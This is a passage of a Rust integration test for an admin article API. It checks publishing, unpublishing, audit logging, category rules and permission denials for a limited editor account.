            "b.png",
            &png(),
        )
        .await?;
    let banner_file = banner_image.created("fileId")?;
    assert_eq!(
        app.get_as(&format!("/api/admin/article/cover/{banner_file}"), &root)
            .await?
            .code(),
        404
    );

    // Publish sets the time; unpublish clears it; each is logged; a second publish is a conflict.
    let published = app
        .post_as(
            &format!("/api/admin/article/publish/{id}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(published.code(), 200, "{}", published.text);
    let page = app
        .post_as(
            "/api/admin/article/page",
            &root,
            &json!({ "status": "PUBLISHED" }),
        )
        .await?;
    assert_eq!(page.body["data"]["total"], 1, "{}", page.text);
    let row = &page.body["data"]["records"][0];
    assert!(row["publishedAt"].as_i64().is_some());
    assert_eq!(row["categoryName"], "平台公告");
    assert_eq!(row["body"], "", "the list leaves bodies out");
    assert_eq!(
        app.post_as(
            &format!("/api/admin/article/publish/{id}"),
            &root,
            &json!({})
        )
        .await?
        .code(),
        409
    );
    let unpublished = app
        .post_as(
            &format!("/api/admin/article/unpublish/{id}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(unpublished.code(), 200, "{}", unpublished.text);
    let view = app
        .get_as(&format!("/api/admin/article/view/{id}"), &root)
        .await?;
    assert_eq!(view.body["data"]["status"], "DRAFT");
    assert_eq!(view.body["data"]["publishedAt"], Value::Null);
    assert_eq!(logged(&app, "article.publish").await?, 1);
    assert_eq!(logged(&app, "article.unpublish").await?, 1);

    // A category with articles cannot be deleted; a disabled one takes no new articles.
    let refused = app
        .post_as(
            &format!("/api/admin/article/category/delete/{category_id}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(refused.code(), 409, "{}", refused.text);
    let off = app
        .post_as(
            &format!("/api/admin/article/category/update/{category_id}"),
            &root,
            &json!({ "name": "平台公告", "sort": 1, "enabled": false }),
        )
        .await?;
    assert_eq!(off.code(), 200, "{}", off.text);
    let refused = app
        .post_as(
            "/api/admin/article/create",
            &root,
            &json!({ "title": "新文章", "categoryId": category_id, "body": "<p>正文</p>" }),
        )
        .await?;
    assert_eq!(refused.code(), 400);
    assert!(refused.field("categoryId").is_some());
    let categories = app
        .get_as("/api/admin/article/category/list", &root)
        .await?;
    assert_eq!(categories.body["data"][0]["articleCount"], 1);

    // Permissions: an editor without the publish permission cannot publish.
    let editor = app
        .limited_admin(
            &root,
            "editor",
            &["admin:article_type:table", "admin:article_type:update"],
        )
        .await?
        .token;
    assert_eq!(
        app.post_as(
            &format!("/api/admin/article/publish/{id}"),
            &editor,
            &json!({})
        )
        .await?
        .code(),
        403
    );
    assert_eq!(
        app.post_as(
            "/api/admin/article/category/create",
            &editor,
            &json!({ "name": "x", "enabled": true })
        )
        .await?
        .code(),
        403
    );
    assert_eq!(
        app.post_as(
            &format!("/api/admin/article/delete/{id}"),
            &editor,
            &json!({})
        )
        .await?
        .code(),
        403
    );
    assert_eq!(
        app.get_as(&format!("/api/admin/article/view/{id}"), &editor)
            .await?
            .body["data"]["status"],
        "DRAFT"
    );

    let deleted = app
        .post_as(
            &format!("/api/admin/article/delete/{id}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(deleted.code(), 200);
    let gone = app
        .post_as(
            &format!("/api/admin/article/category/delete/{category_id}"),
            &root,
            &json!({}),
        )
        .await?;
    assert_eq!(gone.code(), 200, "{}", gone.text);
    app.stop().await
}
